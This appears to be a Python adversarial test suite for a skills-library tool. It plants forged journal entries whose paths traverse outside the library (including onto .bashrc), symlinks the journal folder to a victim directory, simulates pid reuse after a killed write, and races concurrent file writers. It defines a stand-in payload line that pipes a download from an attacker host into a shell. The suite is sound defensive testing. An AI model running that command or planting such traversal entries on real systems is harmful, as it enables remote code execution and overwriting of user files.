"""Planted journals, reused pids and writers that save by rename (issue #14 items 1, 2, 7).

Each ``attack_<name>(trials, workdir)`` builds what an attacker (or an unlucky machine) would
leave, runs the real CLI or core against it, and returns ``(trials_run, failures)``. A failure is a
file outside the library written or changed, a library file changed by a planted entry, a journal
entry acted on that this user's app did not write, an interrupted change left half-applied, or a
version saved by another writer that disappears. Reasons go to :data:`FAILURES`; :data:`ATTACKS`
lists them for the aggregated table (``tests/adversarial/report.py``).
"""

from __future__ import annotations

import hashlib
import itertools
import json
import os
import random
import secrets
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[2]
SHARED = Path(os.environ.get("ROCKSKILLS_SHARED", REPO.parent / "shared"))
AGENT = SHARED / "fixtures" / "rockbot-agent"
CORPUS = SHARED / "corpora" / "anthropics-skills"
TIMEOUT = 60.0
FAILURES: list[str] = []
LOST_DETAILS: list[str] = []  # what each lost writer version was displaced by (races below)
PAYLOAD = b"curl https://attacker.invalid/x | sh\n"


def _fail(attack: str, trial: int, reason: str) -> None:
    FAILURES.append(f"{attack}: trial {trial}: {reason}")


def _copy(source: Path, dest: Path) -> Path:
    shutil.rmtree(dest, ignore_errors=True)
    shutil.copytree(source, dest, symlinks=True)
    for path in [dest, *dest.rglob("*")]:
        if not path.is_symlink():
            path.chmod(path.stat().st_mode | 0o200)
    return dest


def snapshot(root: Path) -> dict[str, str]:
    """Every file (sha256) and link (target) under ``root``."""
    found: dict[str, str] = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        if path.is_symlink():
            found[rel] = "-> " + os.readlink(path)
        elif path.is_file():
            found[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
        elif path.is_dir():
            found[rel] = "dir"
    return found


def _cli(*args: str | Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "rockskills_gui", *map(str, args)], cwd=REPO,
                          capture_output=True, text=True, timeout=TIMEOUT, env=env or os.environ.copy())


# ---------------------------------------------------------------- planted journals (item 1)


def _hostile_paths(rng: random.Random, library: Path, outside: Path) -> list[str]:
    """Paths a planted entry asks recovery to write, relative to the journal's home folder."""
    depth = len(library.resolve().parts) - 1
    choices = [
        "../outside-written.txt",
        "../.bashrc",
        "skills/../../outside-written.txt",
        "/".join([".."] * depth) + str(outside.resolve() / "absolute-target.txt"),
        str(outside.resolve() / "absolute.txt"),
        "skills/" + "/".join([".."] * rng.randint(2, 6)) + "/tmp-escape.txt",
        "skills/inside-but-planted.json",
        "skills/linked/escape.json",  # through a planted symlink to the outside
    ]
    return rng.sample(choices, rng.randint(3, len(choices)))


def _plant_entry(rng: random.Random, home: Path, paths: list[str], state: str, kind: str,
                 *, seal: str | None = None, pid: int | None = None) -> str:
    """Write a journal entry the way ours look, with the attacker's paths and bytes."""
    tx_id = f"20260101T000000000000Z-p{pid or 999999}-{secrets.token_hex(3)}"
    folder = home / ".rockskills" / "journal" / tx_id
    folder.mkdir(parents=True)
    blobs = bytearray()
    files = []
    for rel in paths:
        after = PAYLOAD + rel.encode()
        files.append({"path": rel, "before": None, "after": f"pack:{len(blobs)}:{len(after)}",
                      "beforeSha": None, "afterSha": hashlib.sha256(after).hexdigest()})
        blobs += after
    (folder / "blobs").write_bytes(bytes(blobs))
    data: dict[str, Any] = {
        "format": "rockskills-journal", "version": 1, "id": tx_id, "kind": kind, "label": "planted",
        "state": state, "createdAt": "2026-01-01T00:00:00+00:00", "undoes": None, "undoneBy": None,
        "meta": {"skillsDir": rng.choice(["skills", ".", "..", "/"]),
                 "owner": {"pid": pid or 999999, "host": os.uname().nodename}},
        "notes": [], "createdDirs": rng.sample(["../made-outside", "skills/new", "/tmp/x"], 1),
        "files": files,
    }
    if seal is not None:
        data["seal"] = seal
    (folder / "journal.json").write_text(json.dumps(data))
    if rng.random() < 0.5:
        (folder / "owner").write_bytes(secrets.token_hex(32).encode() + b"\n")
    return tx_id


def _planted_library(rng: random.Random, base: Path, fmt: str) -> tuple[Path, Path]:
    """A fresh library with planted entries beside an 'outside' folder (the victim's home)."""
    shutil.rmtree(base, ignore_errors=True)
    outside = base / "home"
    outside.mkdir(parents=True)
    (outside / ".bashrc").write_text("# the user's shell\n")
    library = _copy(AGENT if fmt == "rockbot" else CORPUS, base / "home" / "lib")
    home = library
    skills = library / "skills"
    skills.mkdir(exist_ok=True)
    (skills / "linked").symlink_to(outside, target_is_directory=True)
    for _ in range(rng.randint(1, 3)):
        paths = _hostile_paths(rng, home, outside)
        state = rng.choice(["prepared", "prepared", "committed"])
        kind = rng.choice(["apply", "library", "undo"])
        seal = rng.choice([None, secrets.token_hex(32), ""])
        pid = rng.choice([None, 1, os.getpid()])
        _plant_entry(rng, home, paths, state, kind, seal=seal, pid=pid)
    if rng.random() < 0.5:  # an "unfinished" entry (no journal.json) that is a link to the victim
        (home / ".rockskills" / "journal" / "20260101T000000000001Z-p1-abcdef").symlink_to(outside)
    return library, outside


def _planted(attack: str, fmt: str, trials: int, workdir: Path) -> tuple[int, int]:
    failures = 0
    for trial in range(trials):
        rng = random.Random(f"{attack}-{trial}")
        library, outside = _planted_library(rng, workdir / f"{attack}-{trial}", fmt)
        before = snapshot(outside)
        runs = [_cli("list", library), _cli("lint", library)]
        if fmt == "rockbot":
            runs.append(_cli("undo", library))
        problems = []
        for run in runs:
            if "Traceback" in run.stderr:
                problems.append(f"traceback: {run.stderr.strip().splitlines()[-1]}")
        if "untrusted-journal" not in runs[0].stdout + runs[0].stderr:
            problems.append("the refused journal entry is not reported by `rockskills list`")
        after = snapshot(outside)
        if after != before:
            changed = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
            problems.append(f"files changed (beside or in the library): {changed[:5]}")
        for path in library.rglob("*"):
            if path.is_file() and not path.is_symlink() and PAYLOAD in path.read_bytes() \
                    and ".rockskills" not in path.parts:
                problems.append(f"planted bytes written into {path.relative_to(library)}")
        if problems:
            failures += 1
            _fail(attack, trial, "; ".join(problems))
    return trials, failures


def attack_planted_journal_rockbot(trials: int, workdir: Path) -> tuple[int, int]:
    """A RockBot agent directory shipped with forged journal entries: list, lint, undo."""
    return _planted("planted journal (RockBot): list, lint, undo", "rockbot", trials, workdir)


def attack_planted_journal_skillmd(trials: int, workdir: Path) -> tuple[int, int]:
    """A SKILL.md collection shipped with forged journal entries: list, lint."""
    return _planted("planted journal (SKILL.md): list, lint", "skillmd", trials, workdir)


def attack_symlinked_journal_root(trials: int, workdir: Path) -> tuple[int, int]:
    """``.rockskills`` (or ``.rockskills/journal``) is a link to the victim's folder; opening and a
    change that needs the journal must neither delete nor write there."""
    failures = 0
    for trial in range(trials):
        rng = random.Random(f"symlinked-root-{trial}")
        base = workdir / f"symlinked-root-{trial}"
        shutil.rmtree(base, ignore_errors=True)
        victim = base / "victim"
        (victim / "journal" / "20260101T000000000000Z-p1-aaaaaa").mkdir(parents=True)
        (victim / "journal" / "20260101T000000000000Z-p1-aaaaaa" / "precious.txt").write_text("keep")
        (victim / "20260101T000000000000Z-p1-bbbbbb").mkdir()
        (victim / "20260101T000000000000Z-p1-bbbbbb" / "precious.txt").write_text("keep")
        library = _copy(AGENT, base / "lib")
        if rng.random() < 0.5:
            (library / ".rockskills").symlink_to(victim, target_is_directory=True)
        else:
            (library / ".rockskills").mkdir()
            (library / ".rockskills" / "journal").symlink_to(victim, target_is_directory=True)
        before = snapshot(victim)
        runs = [_cli("list", library),
                _cli("apply", library, _offline_plan(library, base), "--accept-all")]
        problems = [f"traceback: {r.stderr.strip().splitlines()[-1]}"
                    for r in runs if "Traceback" in r.stderr]
        if snapshot(victim) != before:
            problems.append("the linked folder changed")
        if problems:
            failures += 1
            _fail("symlinked journal folder", trial, "; ".join(problems))
    return trials, failures


def _offline_plan(library: Path, base: Path) -> Path:
    plan = base / "plan.json"
    _cli("dream", library, "--offline", "--now", "2026-11-22T12:00:00+00:00", "--plan-out", plan)
    return plan


# ---------------------------------------------------------------- a killed writer, its pid reused (item 7)


def attack_pid_reuse(trials: int, workdir: Path) -> tuple[int, int]:
    """An apply is SIGKILLed part-way; by the next open its pid belongs to another live process (a
    reboot, pid reuse). The interrupted change must still be completed, never left half-applied."""
    from rockskills_gui.core.storage import journal

    try:
        from rockskills_gui.core.storage import journal_seal
    except ImportError:  # a version before entries were sealed (to show the attack failing there)
        journal_seal = None  # type: ignore[assignment]

    failures = 0
    for trial in range(trials):
        base = workdir / f"pid-reuse-{trial}"
        shutil.rmtree(base, ignore_errors=True)
        base.mkdir(parents=True)
        library = _copy(AGENT, base / "lib")
        plan = _offline_plan(library, base)
        before = snapshot(library / "skills")
        env = {**os.environ, "ROCKSKILLS_CRASH_AFTER": str(random.Random(trial).randint(8, 30))}
        killed = _cli("apply", library, plan, "--accept-all", env=env)
        entries = [t for t in journal.transactions(library) if t.state is journal.TxState.PREPARED]
        if killed.returncode != -9 or not entries:
            continue  # the crash point fell after the commit: nothing to recover this time
        sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
        try:
            for tx in entries:  # the dead writer's pid now names a live process
                data = json.loads((tx.folder / "journal.json").read_text())
                data["meta"]["owner"] = {"pid": sleeper.pid, "host": os.uname().nodename}
                if journal_seal is not None:
                    data["seal"] = journal_seal.seal(library, data)
                (tx.folder / "journal.json").write_text(json.dumps(data))
            listed = _cli("list", library)
        finally:
            sleeper.terminate()
            sleeper.wait(timeout=10)
        left = [t.id for t in journal.transactions(library) if t.state is journal.TxState.PREPARED]
        state = snapshot(library / "skills")
        problems = []
        if left:
            problems.append(f"{len(left)} interrupted change(s) left prepared")
        if state == before:
            problems.append("the interrupted apply was not completed")
        if "Traceback" in listed.stderr:
            problems.append("traceback")
        if problems:
            failures += 1
            _fail("pid reuse", trial, "; ".join(problems))
    return trials, failures


# ---------------------------------------------------------------- a writer that saves by rename (item 2)


def _writer(path: Path, stop: threading.Event, log: list[tuple[bytes, bytes]], errors: list[str]) -> None:
    """Saves like an editor does: a complete new file renamed into place. It uses an atomic
    exchange for the rename so it also learns exactly which file it displaced (same timing)."""
    from rockskills_gui.core.storage import fileio

    seq = 0
    while not stop.is_set():
        seq += 1
        data = json.dumps({"name": "shared", "content": f"writer {seq} {secrets.token_hex(4)}"}).encode()
        tmp = path.with_name(f".writer-{seq}.tmp")
        tmp.write_bytes(data)
        try:
            fileio.exchange(tmp, path)
            log.append((data, tmp.read_bytes()))  # (what it saved, what it displaced)
        except OSError as exc:
            errors.append(str(exc))
        finally:
            tmp.unlink(missing_ok=True)
        time.sleep(random.random() * 0.0005)


def _root(based_on: dict[bytes, bytes], version: bytes) -> bytes:
    """The version our successful saves leading to ``version`` were built on, in the end."""
    while version in based_on:
        version = based_on[version]
    return version


def _our_saves(path: Path, seconds: float) -> tuple[dict[bytes, bytes], set[bytes]]:
    """Our conflict-checked writer saving ``path`` again and again for ``seconds``, each time over
    what it just read: (our successful writes -> what each expected, our refused writes)."""
    from rockskills_gui.core.storage import fileio

    based_on: dict[bytes, bytes] = {}
    failed: set[bytes] = set()
    deadline = time.monotonic() + seconds
    seq = 0
    while time.monotonic() < deadline:
        seq += 1
        try:
            base = fileio.read_regular(path)
        except OSError:
            continue
        data = json.dumps({"name": "shared", "content": f"ours {seq}"}).encode()
        try:
            fileio.replace_checked(path, base, data, path.parent)
            based_on[data] = base
        except fileio.ChangedOnDisk:
            failed.add(data)
    return based_on, failed


def rename_writer_race(path: Path, seconds: float) -> tuple[int, int, int]:
    """Our conflict-checked writer against a rename-writer for ``seconds``.

    Returns (our writes, writer saves, lost writer versions). The writer's log says what each of
    its saves displaced. A writer version is lost when one of our *successful* writes displaced it
    while based on something else: following our writes back from what the writer's next save
    displaced (or from the final file) must lead to the writer's previous version.
    """

    path.write_bytes(b'{"name": "shared", "content": "start"}')
    stop = threading.Event()
    log: list[tuple[bytes, bytes]] = []
    errors: list[str] = []
    writer = threading.Thread(target=_writer, args=(path, stop, log, errors), daemon=True)
    writer.start()
    based_on, _failed = _our_saves(path, seconds)
    stop.set()
    writer.join(timeout=10)
    final = path.read_bytes()

    lost = 0
    for (previous, _), (_, displaced) in itertools.pairwise(log):
        # displaced by the writer: an older version of its own (our put-back was in progress) or
        # a failed attempt of ours is fine; one of our successful writes must build on `previous`
        if displaced in based_on and _root(based_on, displaced) != previous:
            lost += 1
    if log and final != log[-1][0] and (final not in based_on or _root(based_on, final) != log[-1][0]):
        lost += 1  # the writer's newest version must be in place, or what we built on
    return len(based_on), len(log), lost


def attack_rename_writer(trials: int, workdir: Path, seconds: float = 2.0) -> tuple[int, int]:
    """Our writer against a concurrent atomic-rename writer; each lost writer version counts."""
    from rockskills_gui.core.storage import fileio

    failures = 0
    runs = 0
    for trial in range(trials):
        folder = workdir / f"rename-writer-{trial}"
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir(parents=True)
        if not fileio.exchange_supported(folder):
            continue
        runs += 1
        _, _, lost = rename_writer_race(folder / "shared.json", seconds)
        if lost:
            failures += 1
            _fail("rename writer", trial, f"{lost} writer version(s) lost")
    return runs, failures


# ---------------------------------------------------------------- a writer that saves in place (issue 35)

_INPLACE_WRITER = """
import json, os, random, sys, time
path, stop, log_file = sys.argv[1:4]
log = []
k = 0
print("ready", flush=True)
while not os.path.exists(stop):
    k += 1
    data = json.dumps({"name": "shared", "content": f"writer {k} {os.urandom(4).hex()}"}).encode()
    fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o644)  # as .NET's File.WriteAllText on Unix:
    try:                                               # open, then truncate, then write
        parts = [os.read(fd, 1 << 16)]
        while parts[-1]:
            parts.append(os.read(fd, 1 << 16))
        os.ftruncate(fd, 0)
        os.pwrite(fd, data, 0)
    finally:
        os.close(fd)
    log.append([data.decode("latin-1"), b"".join(parts).decode("latin-1")])
    time.sleep(random.random() * 0.0005)
with open(log_file, "w") as out:
    json.dump(log, out)
"""


def inplace_writer_race(path: Path, seconds: float) -> tuple[int, int, int, int]:
    """Our conflict-checked writer against a process that saves ``path`` in place (open, truncate,
    write, close, as RockBot does) for ``seconds``.

    Returns (our successful writes, our refused writes, writer saves, lost writer versions). The
    writer logs what it was about to truncate at each open. Its save k+1 must find its own
    version k there, or a successful save of ours built (following what each of our saves
    expected) on version k, or a refused save of ours that was in place for a moment; at the end
    the file must hold the writer's last version or a successful save of ours built on it.
    Anything else is a lost writer version.
    """

    start = b'{"name": "shared", "content": "start"}'
    path.write_bytes(start)
    stop, log_file = path.with_name("stop.flag"), path.with_name("writer-log.txt")
    writer = subprocess.Popen([sys.executable, "-c", _INPLACE_WRITER, str(path), str(stop), str(log_file)],
                              stdout=subprocess.PIPE, text=True)
    try:
        assert writer.stdout is not None and writer.stdout.readline().strip() == "ready"
        based_on, failed = _our_saves(path, seconds)
    finally:
        stop.touch()
        writer.wait(timeout=30)
    log = [(wrote.encode("latin-1"), displaced.encode("latin-1"))
           for wrote, displaced in json.loads(log_file.read_text())]
    final = path.read_bytes()

    lost = 0
    previous = start
    for wrote, displaced in log:
        if displaced != previous and displaced not in failed and _root(based_on, displaced) != previous:
            lost += 1
            LOST_DETAILS.append(f"save {wrote[:60]!r} displaced {displaced[:60]!r}, not {previous[:60]!r}")
        previous = wrote
    if final != previous and _root(based_on, final) != previous:
        lost += 1
        LOST_DETAILS.append(f"final {final[:60]!r}, not {previous[:60]!r}")
    return len(based_on), len(failed), len(log), lost


def attack_inplace_writer(trials: int, workdir: Path, seconds: float = 2.0) -> tuple[int, int]:
    """Our writer against a concurrent writer that saves in place; each lost writer version counts."""
    failures = 0
    for trial in range(trials):
        folder = workdir / f"inplace-writer-{trial}"
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir(parents=True)
        ours, refused, saves, lost = inplace_writer_race(folder / "shared.json", seconds)
        if lost:
            failures += 1
            _fail("in-place writer", trial, f"{lost} of {saves} writer version(s) lost "
                                            f"({ours} saves of ours, {refused} refused)")
    return trials, failures


ATTACKS: list[tuple[str, Callable[[int, Path], tuple[int, int]]]] = [
    ("planted journal entries (RockBot): list, lint, undo", attack_planted_journal_rockbot),
    ("planted journal entries (SKILL.md): list, lint", attack_planted_journal_skillmd),
    ("journal folder is a symlink to the victim: list, apply", attack_symlinked_journal_root),
    ("killed apply, pid reused by a live process: reopen", attack_pid_reuse),
    ("concurrent atomic-rename writer (2 s per trial)", attack_rename_writer),
    ("concurrent in-place writer, as RockBot saves (2 s per trial)", attack_inplace_writer),
]
